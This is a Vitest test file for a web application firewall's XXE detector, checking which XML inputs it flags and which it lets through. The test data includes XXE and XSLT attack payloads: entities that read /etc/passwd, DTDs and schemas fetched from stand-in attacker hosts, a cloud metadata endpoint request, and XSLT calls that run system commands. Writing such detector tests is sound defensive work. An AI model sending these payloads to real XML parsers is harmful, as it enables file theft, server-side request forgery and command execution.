import { describe, it, expect } from 'vitest';
import { xxe, decodeUtf7 } from '../../../../src/waf/detectors/xxe.js';
import type { DetectContext } from '../../../../src/waf/types.js';

const XML: DetectContext = { point: [['post'], ['xml']], kind: 'value', root: 'post' };
const stamp = (v: string, c = XML) => xxe.detect(v, c)?.stamp ?? null;

describe('xxe detector', () => {
  it('has the right type', () => expect(xxe.type).toBe('xxe'));
  it.each([
    ['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>', 'xxe:external-entity'],
    ['<!DOCTYPE r [<!ENTITY  ext  PUBLIC "x" "http://198.51.100.2/e.dtd">]><r/>', 'xxe:external-entity'],
    ['<!DOCTYPE r [<!ENTITY % p SYSTEM "http://x/p.dtd"> %p;]><r/>', 'xxe:parameter-entity'],
    ['<!DOCTYPE r [<!ENTITY % a "<!ENTITY b \'x\'>"> %a;]>', 'xxe:parameter-entity'],
    ['<!DOCTYPE note SYSTEM "http://evil.example/n.dtd"><note/>', 'xxe:external-dtd'],
    ['<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>', 'xxe:entity-expansion'],
    ['<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></r>', 'xxe:xinclude'],
    ['<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://evil.example/s.xsd"/>', 'xxe:external-schema'],
    ['<xsd:schema><xsd:import schemaLocation="//evil.example/a.xsd"/></xsd:schema>', 'xxe:external-schema'],
    ['<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r +AFsAPAAh-ENTITY e SYSTEM +ACI-file:///x+ACIAPgBd-', 'xxe:external-entity'],
  ])('%s', (v, s) => expect(stamp(v)).toBe(s));

  it('flags an external identifier handed over as a DTD entity value, not an internal literal', () => {
    const c: DetectContext = { point: [['post'], ['xml'], ['xml_dtd_entity', 'e']], kind: 'value', root: 'post' };
    expect(stamp('SYSTEM "http://198.51.100.3/x"', c)).toBe('xxe:external-entity');
    expect(stamp("PUBLIC 'x' 'file:///etc/hosts'", c)).toBe('xxe:external-entity');
    expect(stamp('https://www.example.com/about', c)).toBeNull();
  });

  describe('external DTDs: well-known publishers pass, anything else is foreign', () => {
    it.each([
      '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
      '<!DOCTYPE beans PUBLIC "-//SPRING//DTD BEAN 2.0//EN" "https://www.springframework.org/dtd/spring-beans-2.0.dtd"><beans/>',
      '<!DOCTYPE hibernate-mapping PUBLIC "-//Hibernate/Hibernate Mapping DTD 3.0//EN" "http://www.hibernate.org/dtd/hibernate-mapping-3.0.dtd">',
      '<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "https://mybatis.org/dtd/mybatis-3-mapper.dtd">',
      '<!DOCTYPE struts PUBLIC "-//Apache Software Foundation//DTD Struts Configuration 2.5//EN" "http://struts.apache.org/dtds/struts-2.5.dtd">',
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
      '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN">',
      '<!DOCTYPE html SYSTEM "about:legacy-compat"><html/>',
      '<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd">',
    ])('passes %s', (v) => expect(stamp(v)).toBeNull());
    it.each([
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://attacker.example/x.dtd"><html/>',
      '<!DOCTYPE r PUBLIC "-//W3C//DTD X//EN" "http://www.w3.org.attacker.example/x.dtd"><r/>',
      '<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>',
      '<!DOCTYPE r SYSTEM "/usr/share/yelp/dtd/docbookx.dtd"><r/>',
      "<!DOCTYPE r SYSTEM '\\\\198.51.100.9\\share\\x.dtd'><r/>",
      '<!DOCTYPE r SYSTEM "jar:http://198.51.100.9/x.jar!/a.dtd"><r/>',
      '<!DOCTYPE r SYSTEM "http://127.0.0.1:8080/x.dtd"><r/>',
    ])('%s', (v) => expect(stamp(v)).toBe('xxe:external-dtd'));
  });

  describe('schema hints', () => {
    it.each([
      '<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x http://198.51.100.4/x.xsd"/>',
      '<r xsi:noNamespaceSchemaLocation="file:///etc/passwd"/>',
      '<xs:schema><xs:include schemaLocation="http://evil.example/a.xsd"/></xs:schema>',
    ])('%s', (v) => expect(stamp(v)).toBe('xxe:external-schema'));
    it.each([
      '<project xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd"/>',
      '<beans xsi:schemaLocation="http://www.springframework.org/schema/beans https://www.springframework.org/schema/beans/spring-beans.xsd"/>',
      '<order xsi:schemaLocation="http://shop.example/ns order.xsd"/>',
      '<xs:import namespace="urn:common" schemaLocation="common.xsd"/>',
    ])('passes %s', (v) => expect(stamp(v)).toBeNull());
  });

  describe('XSLT reaching out', () => {
    const xsl = (inner: string, ns = '') => `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"${ns}>${inner}</xsl:stylesheet>`;
    it.each([
      [xsl(`<xsl:value-of select="php:function('system','id')"/>`), 'xxe:xslt-extension'],
      [xsl(`<xsl:value-of select="php:functionString('shell_exec','id')"/>`), 'xxe:xslt-extension'],
      [xsl(`<xsl:value-of select="rt:exec(rt:getRuntime(),'id')"/>`, ' xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"'), 'xxe:xslt-extension'],
      [xsl(`<xsl:value-of select="Runtime:exec(Runtime:getRuntime(),'id')"/>`, ' xmlns:Runtime="java:java.lang.Runtime"'), 'xxe:xslt-extension'],
      [xsl('<msxsl:script language="C#" implements-prefix="user">x</msxsl:script>', ' xmlns:msxsl="urn:schemas-microsoft-com:xslt"'), 'xxe:xslt-extension'],
      [xsl(`<xsl:copy-of select="document('http://169.254.169.254/latest/meta-data/')"/>`), 'xxe:xslt-document'],
      [xsl(`<xsl:value-of select="unparsed-text('file:///etc/hostname')"/>`), 'xxe:xslt-document'],
      [xsl('<xsl:import href="https://evil.example/x.xsl"/>'), 'xxe:xslt-import'],
      ['<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><r/>', 'xxe:xslt-import'],
    ])('%s', (v, s) => expect(stamp(v)).toBe(s));
    it.each([
      xsl(`<xsl:include href="common.xsl"/><xsl:variable name="d" select="document('lookup.xml')"/><xsl:value-of select="document('')"/>`),
      xsl('<xsl:value-of select="msxsl:node-set($x)"/>', ' xmlns:msxsl="urn:schemas-microsoft-com:xslt"'),
      xsl('<xsl:for-each select="catalog/cd"><xsl:value-of select="concat(title, \' \', artist)"/></xsl:for-each>'),
      '<?xml-stylesheet type="text/xsl" href="/assets/feed.xsl"?><rss/>',
      '<?xml-stylesheet type="text/css" href="https://cdn.example.com/feed.css"?><rss/>',
      'The document("draft") needs review',
      'var o = { init: function (a) { return a; } };',
    ])('passes %s', (v) => expect(stamp(v)).toBeNull());
  });

  describe('attributes handed over alone by the XML parser', () => {
    const attr = (tag: string, name: string): DetectContext => ({ point: [['post'], ['xml'], ['xml_tag', tag], ['xml_attr', name]], kind: 'value', root: 'post' });
    it.each([
      ['http://198.51.100.4/ns http://198.51.100.4/x.xsd', attr('r', 'xsi:schemaLocation'), 'xxe:external-schema'],
      ['file:///etc/passwd', attr('r', 'xsi:noNamespaceSchemaLocation'), 'xxe:external-schema'],
      ['http://www.w3.org/2001/XInclude', attr('r', 'xmlns:xi'), 'xxe:xinclude'],
      ['file:///etc/passwd', attr('xi:include', 'href'), 'xxe:xinclude'],
      ['http://php.net/xsl', attr('xsl:stylesheet', 'xmlns:php'), 'xxe:xslt-extension'],
      ["php:function('system','id')", attr('xsl:value-of', 'select'), 'xxe:xslt-extension'],
      ['http://evil.example/x.xsl', attr('xsl:include', 'href'), 'xxe:xslt-import'],
    ])('%s at %j', (v, c, s) => expect(stamp(v, c)).toBe(s));
    it.each([
      ['http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd', attr('project', 'xsi:schemaLocation')],
      ['common.xsl', attr('xsl:include', 'href')],
      ['https://www.example.com/', attr('a', 'href')],
      ['onDeleteClicked', attr('Button', 'android:onClick')],
      ['http://schemas.android.com/apk/res/android', attr('LinearLayout', 'xmlns:android')],
    ])('passes %s at %j', (v, c) => expect(stamp(v, c)).toBeNull());
    it('xml-stylesheet instruction', () => {
      const pi: DetectContext = { point: [['post'], ['xml'], ['xml_pi']], kind: 'value', root: 'post' };
      expect(stamp('xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"', pi)).toBe('xxe:xslt-import');
      expect(stamp('xml-stylesheet type="text/xsl" href="/feed.xsl"', pi)).toBeNull();
    });
  });

  it('finishes quickly on long runs of near-misses', () => {
    const ctxs: DetectContext[] = [XML, { point: [['post'], ['xml'], ['xml_tag', 'a'], ['xml_attr', 'select']], kind: 'value', root: 'post' }];
    for (const frag of ['<a:include ', 'xmlns:a="', 'document("', ":function('", '<!DOCTYPE a SYSTEM "', 'schemaLocation="a ', '<?xml-stylesheet ', '<a:script ', 'a'.repeat(12)]) {
      const v = frag.repeat(Math.ceil(100_000 / frag.length));
      const t = performance.now();
      for (const c of ctxs) xxe.detect(v, c);
      expect(performance.now() - t, frag).toBeLessThan(1000);
    }
  });

  it.each([
    '<?xml version="1.0" encoding="UTF-8"?><order><id>5</id><note>a &amp; b</note></order>',
    '<!DOCTYPE html><html><body>hi</body></html>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soapenv:Body/></soapenv:Envelope>',
    '<!DOCTYPE r [<!ENTITY copy "(c) 2024">]><r>&copy;</r>',
    'I like C++ and +ADw- is UTF-7 for <',
  ])('passes %s', (v) => expect(stamp(v)).toBeNull());

  it('decodes UTF-7', () => expect(decodeUtf7('+ADw-a+AD4-')).toBe('<a>'));
});
